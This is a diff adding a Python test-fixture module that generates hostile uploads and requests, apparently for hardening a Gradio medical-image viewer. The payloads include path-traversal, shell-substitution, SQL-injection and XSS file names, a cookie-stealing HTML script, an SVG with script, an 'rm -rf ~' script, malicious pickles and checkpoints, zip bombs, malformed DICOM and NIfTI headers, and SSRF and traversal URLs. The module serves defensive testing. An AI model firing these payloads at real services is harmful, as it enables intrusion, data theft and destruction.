@@ -1,0 +1,274 @@
+"""What strangers may send: files by kind, and requests, each meant to break something."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import pickle
+import random
+import struct
+import zipfile
+from collections.abc import Iterator
+from typing import Any, NamedTuple
+
+import numpy as np
+import torch
+from dicom_files import mr_image
+from intact_files import dicom_bytes, intact_files
+from test_hostile_files import bombs, nifti_header
+
+FILES = intact_files()
+FLIPS = 12  # damaged copies of each family
+NAMES = (
+    "../../../../etc/passwd",
+    "/etc/passwd",
+    "..",
+    ".",
+    "",
+    " ",
+    "..\\..\\windows\\win.ini",
+    "%2e%2e%2f%2e%2e%2fpasswd",
+    "a\0b.png",
+    "a\r\nX-Injected: 1.png",
+    "x" * 4096 + ".png",
+    "é" * 300 + ".png",
+    "con.nii",
+    "NUL",
+    "AUX.dcm",
+    "\u202egnp.exe",
+    "e\u0301\ufeff\u200b.png",
+    "\ud83d\ude02.png",
+    "🧠.dcm",
+    "-rf",
+    "$(id).png",
+    "'; DROP TABLE scans; --.png",
+    "<img src=x onerror=alert(1)>.png",
+    "a/b/../../../c.png",
+    ".hidden",
+    "...",
+    "~root",
+    "a:b.png",
+)
+HTML = b"<!DOCTYPE html><html><script>fetch('https://example.org/'+document.cookie)</script></html>"
+SVG = (
+    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
+    b'<image href="file:///etc/passwd"/></svg>'
+)
+
+
+class Case(NamedTuple):
+    """One file, by the name that it is sent under."""
+
+    name: str
+    data: bytes
+
+
+class Payload:
+    """Unpickling this would write a file of that name."""
+
+    def __init__(self, target: str):
+        self.target = target
+
+    def __reduce__(self):
+        return (open, (self.target, "w"))
+
+
+def pickles(target: str) -> dict[str, bytes]:
+    """Programs as pickles and torch checkpoints, plain, gzipped and zipped."""
+    checkpoint = io.BytesIO()
+    torch.save({"model": Payload(target)}, checkpoint)
+    old = io.BytesIO()
+    torch.save({"model": Payload(target)}, old, _use_new_zipfile_serialization=False)
+    array = io.BytesIO()
+    np.save(array, np.array([Payload(target)], dtype=object), allow_pickle=True)
+    return {
+        "pickle": pickle.dumps(Payload(target)),
+        "pickle.0": pickle.dumps(Payload(target), protocol=0),
+        "pickle.gz": gzip.compress(pickle.dumps(Payload(target))),
+        "checkpoint": checkpoint.getvalue(),
+        "old checkpoint": old.getvalue(),
+        "array": array.getvalue(),
+    }
+
+
+def zip_of(entries: list[tuple[str, bytes]]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in entries:
+            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
+    return buffer.getvalue()
+
+
+def nested_zip(levels: int) -> bytes:
+    data = zip_of([("zeros", bytes(2**20))])
+    for level in range(levels):
+        data = zip_of([(f"{level}-{copy}.zip", data) for copy in range(8)])
+    return data
+
+
+def claims() -> Iterator[Case]:
+    """Headers that claim more than there is, or nonsense."""
+    for dims in ((-1, 40, 2), (0, 0, 0), (32767, 1, 1), (32767, 32767, 32767), (40, 36, 0)):
+        header = bytearray(nifti_header((40, 36, 2)) + bytes(40 * 36 * 4))
+        header[42:48] = struct.pack("<3h", *dims)
+        yield Case(f"dim{dims[0]}.nii", bytes(header))
+        yield Case(f"dim{dims[0]}.nii.gz", gzip.compress(bytes(header)))
+    for offset in (float("nan"), 1e30, -1e9, 2**31):
+        header = bytearray(nifti_header((40, 36, 2)) + bytes(40 * 36 * 4))
+        header[108:112] = struct.pack("<f", offset)
+        yield Case("offset.nii", bytes(header))
+    plain = FILES["plain.dcm"]
+    at = plain.rindex(b"\xe0\x7f\x10\x00")  # (7FE0,0010) PixelData
+    for length in (0xFFFFFFFF, 0xFFFFFFFE, 0x7FFFFFFF, 0):
+        yield Case("length.dcm", plain[: at + 8] + struct.pack("<I", length) + plain[at + 12 :])
+    for sequence in (
+        b"\x08\x00\x40\x11SQ\0\0\xff\xff\xff\xff",
+        b"\xfe\xff\x00\xe0\xff\xff\xff\xff",
+    ):
+        yield Case("sequence.dcm", plain[:at] + sequence * 5000)
+    for keyword, value in (("Rows", 65535), ("NumberOfFrames", 2**31 - 1), ("BitsAllocated", 64)):
+        dataset = mr_image(np.eye(40, dtype=np.uint16))
+        setattr(dataset, keyword, value)
+        yield Case(f"{keyword}.dcm", dicom_bytes(dataset))
+
+
+def file_cases(seed: int = 0) -> dict[str, list[Case]]:
+    """Files by kind; the same for the same seed."""
+    found: dict[str, list[Case]] = {
+        "bombs: zip": [Case("nested.zip", nested_zip(4))],
+        "bombs: gzip": [],
+        "bombs: picture": [],
+    }
+    for name, (data, _) in bombs().items():
+        kind = "zip" if name.endswith("zip") else "gzip" if name.endswith("gz") else "picture"
+        if name.endswith((".nii", ".dcm")):
+            found.setdefault("headers that claim too much", []).append(Case(name, data))
+        else:
+            found[f"bombs: {kind}"].append(Case(name, data))
+    found["headers that claim too much"] += claims()
+    found["truncated"] = [
+        Case(f"{tenth}.{family}", data[: len(data) * tenth // 10])
+        for family, data in FILES.items()
+        for tenth in range(1, 10)
+    ]
+    rng = random.Random(seed)
+    flipped = found["bits flipped"] = []
+    for family, intact in FILES.items():
+        for number in range(FLIPS):
+            data = bytearray(intact)
+            for _ in range(rng.choice([1, 4, 16])):
+                end = min(len(data), 1500) if rng.random() < 0.5 else len(data)
+                data[rng.randrange(end)] ^= 1 << rng.randrange(8)
+            flipped.append(Case(f"{number}.{family}", bytes(data)))
+    found["names in a zip"] = [
+        Case("names.zip", zip_of([(name.replace("\0", "?"), FILES["plain.dcm"])]))
+        for name in NAMES
+        if name and not any(0xD800 <= ord(letter) < 0xE000 for letter in name)
+    ]
+    found["names of uploads"] = [Case(name, FILES["png"]) for name in NAMES]
+    posing = {"html": HTML, "svg": SVG, "script": b"#!/bin/sh\nrm -rf ~\n", "elf": b"\x7fELF\2\1\1"}
+    found["pages and programs as images"] = [
+        Case(f"{kind}.{extension}", data)
+        for kind, data in posing.items()
+        for extension in ("nii", "nii.gz", "png", "dcm", "zip", "svg", "tif")
+    ]
+    found["pickles and checkpoints"] = [
+        Case(f"{kind}.{extension}".replace(" ", "-"), data)
+        for kind, data in pickles("pwned").items()
+        for extension in ("pt", "nii", "png", "dcm", "npy")
+    ]
+    found["empty"] = [Case(f"empty.{family}", b"") for family in FILES]
+    found["empty"] += [Case("empty.zip", zip_of([])), Case("blank.txt", b" \n" * 999)]
+    return found
+
+
+def requests(config: dict, path: str) -> list[tuple[str, str, bytes, str]]:
+    """Broken requests: method, address, body and content type.
+
+    Args:
+        config: the page's.
+        path: of an upload that is still there.
+    """
+    join, kind = "/gradio_api/queue/join", "application/json"
+    events = {each["api_name"]: each["id"] for each in config["dependencies"]}
+    found = [
+        ("POST", where, body, kind)
+        for where in (join, "/gradio_api/call/translate", "/gradio_api/run/predict")
+        for body in (
+            b"",
+            b"null",
+            b"[]",
+            b"{",
+            b"7",
+            b'"\\ud800"',
+            b"\xff\xfe\0",
+            b"[" * 100_000,
+            b'{"data": ' + b"[" * 5000 + b"]" * 5000 + b"}",
+            b'{"data": 1}',
+            b'{"data": [1e999, NaN]}',
+            b'{"data": [], "fn_index": 9999, "session_hash": "a"}',
+            b'{"data": [], "fn_index": -1, "session_hash": "a"}',
+            b'{"data": [], "fn_index": "x", "session_hash": "a"}',
+            b'{"data": [], "fn_index": null, "session_hash": "a"}',
+            b'{"data": [], "fn_index": 0, "session_hash": null}',
+            b'{"data": [], "fn_index": 0, "session_hash": {"a": 1}}',
+            b'{"__proto__": {"a": 1}}',
+            b" " * 3 * 2**20,
+        )
+    ]
+    odd: list[Any] = [None, -1, 1e308, "x", "T3", "}{", [], {}, {"path": "/etc/passwd"}]
+    odd += [[{"path": path}], [{"path": f"{path}/../../../.."}], {"url": "http://169.254.169.254/"}]
+    odd += [[{"path": "\0"}], [[[]]], "x" * 100_000]
+    for name in ("load", "choose", "choose_direction", "show_slice", "save_slice", "translate"):
+        event = next(each for each in config["dependencies"] if each["api_name"] == name)
+        for value in odd:
+            body = {
+                "data": [value] * len(event["inputs"]),
+                "fn_index": events[name],
+                "session_hash": "hostile",
+                "event_data": value,
+                "trigger_id": None,
+            }
+            found.append(("POST", join, json.dumps(body).encode(), kind))
+    form = "multipart/form-data; boundary=x"
+    upload = "/gradio_api/upload"
+    found += [
+        ("POST", upload, b"{}", kind),
+        ("POST", upload, b"", "multipart/form-data"),
+        ("POST", upload, b"--y\r\n", form),
+        ("POST", upload, b"--x\r\n\r\n\r\n--x--", form),
+        (
+            "POST",
+            upload,
+            b'--x\r\nContent-Disposition: form-data; name="files"\r\n\r\na\r\n--x--',
+            form,
+        ),
+        ("POST", upload, b"--x\r\n" + b"A: " + b"a" * 100_000 + b"\r\n\r\n\r\n--x--", form),
+    ]
+    for where in (
+        f"/gradio_api/file={path}",
+        "/gradio_api/file=/etc/passwd",
+        "/gradio_api/file=../../app.py",
+        "/gradio_api/proxy=http://169.254.169.254/latest/meta-data",
+        "/gradio_api/component_server",
+        "/gradio_api/deep_link",
+        "/gradio_api/dev/reload",
+        "/gradio_api/queue/data",
+        "/gradio_api/upload_progress",
+        "/gradio_api/runs",
+        "/gradio_api/vibe-code",
+        "/gradio_api/openapi.json",
+        "/monitoring/summary",
+        "/static/../../app.py",
+        "/static/..%2f..%2fapp.py",
+        "/assets/%2e%2e/%2e%2e/etc/passwd",
+        "/custom_component/x/client/component/../../../app.py",
+        "/results/../app.py",
+        "/results/%00",
+        "/slices/x/999999999999999999999",
+        "/slices/%00",
+        "/" + "a" * 20_000,
+    ):
+        found += [("GET", where, b"", ""), ("POST", where, b"{}", kind)]
+    return found
